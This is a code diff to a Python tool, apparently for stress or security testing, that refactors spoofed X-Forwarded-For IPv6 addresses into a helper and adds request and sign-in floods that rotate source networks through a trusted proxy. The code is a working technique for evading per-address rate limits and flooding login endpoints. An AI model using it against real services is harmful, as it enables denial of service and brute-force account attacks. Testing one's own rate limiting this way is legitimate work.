@@ -267,17 +267,27 @@ def streams(attacker, line, paths, connections=450, life=None, takes=True, field
         end(fd)
 
 
-# ---- f. signing in ------------------------------------------------------------------------------------------------------------
+# ---- networks without an end ------------------------------------------------------------------------------------------------------------
+
+
+def network(attacker):
+    """The field by which the trusted proxy says that somebody asks from yet another IPv6 /64; and a number."""
+    number = attacker.dice.getrandbits(62)
+    where = f"2001:db8:{number >> 16 & 0xffff:x}:{number & 0xffff:x}::{number >> 32 & 0xffff:x}"
+    return f"X-Forwarded-For: {where}\r\n", number
+
+
+def ask_from_everywhere(attacker, paths, connections=100, proxy="127.0.0.1"):
+    """Every request from another network."""
+    ask_again(attacker, proxy, (get(path, fields=network(attacker)[0]) for path in itertools.cycle(paths)), connections)
 
 
 def sign_in_flood(attacker, names, connections=64, path="/api/session", proxy="127.0.0.1"):
-    """From behind the trusted proxy: every request from another IPv6 /64. `names` may hold None: a new name each time."""
+    """Every request from another network. `names` may hold None: a new name each time."""
     def requests():
         for name in itertools.cycle(names):
-            number = attacker.dice.getrandbits(62)
-            where = f"2001:db8:{number >> 16 & 0xffff:x}:{number & 0xffff:x}::{number >> 32 & 0xffff:x}"
-            yield post(path, {"name": name or f"N{number:x}", "password": f"wrong horse {number % 1000}"},
-                       fields=f"X-Forwarded-For: {where}\r\n")
+            where, number = network(attacker)
+            yield post(path, {"name": name or f"N{number:x}", "password": f"wrong horse {number % 1000}"}, fields=where)
     ask_again(attacker, proxy, requests(), connections)
 
 
